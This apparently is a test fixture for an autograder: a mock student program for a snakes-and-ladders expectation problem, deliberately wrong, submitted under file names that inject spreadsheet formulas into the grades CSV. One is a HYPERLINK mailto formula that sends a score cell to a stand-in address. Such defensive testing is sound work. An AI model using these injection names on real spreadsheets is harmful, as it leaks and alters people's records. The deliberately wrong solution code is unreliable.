"""Attempt: run a formula in the spreadsheet the teaching assistant opens ``grades.csv``
in: file names (so student ids, and problem texts quoting the name) that start with ``=``,
``+``, ``-``, ``@`` or a tab, such as
``=HYPERLINK("mailto:x@x.example?body="&B2,"appeal")``, which would send another cell's
content away when clicked. The program prints a plausible wrong answer.

The grader must write every text cell so that no spreadsheet takes it for a formula (a
``'`` in front) while the scores stay numbers."""

import json
import sys

# Each name this program is uploaded under, and where the grader must file it: under the
# attacker's own id, or ("") as an error row that gives it to no one.
NAMES = {
    # Clicked, it mails the next cell (the score) away; a file name holds no "/".
    '=HYPERLINK("mailto:x@x.example?body="&B2,"appeal").py': (
        '=HYPERLINK("mailto:x@x.example?body="&B2,"appeal")'
    ),
    "+1+1.py": "+1+1",
    "-2.py": "-2",
    "@SUM(A1).py": "@SUM(A1)",
    "\t=1+1.py": "\t=1+1",
    # An ambiguous Moodle name: its error row's problem text starts with the name.
    "=1+1_22222_assignsubmission_file_x_111_assignsubmission_file_": "",
}


def expected_turns(goal, jumps):
    """Plausible and wrong: a spin that passes the goal wins (the rules say it stays)."""
    values = [0.0] * (goal + 1)
    change = 1.0
    while change > 1e-10:
        change = 0.0
        for i in range(goal - 1, -1, -1):
            ends = [min(i + spin, goal) for spin in range(1, 7)]
            new = 1 + sum(values[jumps.get(end, end)] for end in ends) / 6
            change, values[i] = max(change, abs(new - values[i])), new
    return values


def main(argv):
    with open(argv[1], encoding="utf-8") as file:
        board = json.load(file)
    goal, jumps = board["goal"], {start: end for start, end in board["jumps"]}
    values = expected_turns(goal, jumps)
    print("Expected turns per game: %.2f" % values[0])
    print("Expected turns remaining by position:")
    rows = [list(range(10 * r + 1, 10 * r + 11)) for r in range(goal // 10)]
    for r, row in reversed(list(enumerate(rows))):
        print("".join("%3d: %5.2f " % (i, values[i]) for i in (row if r % 2 == 0 else row[::-1])))


if __name__ == "__main__":
    main(sys.argv)
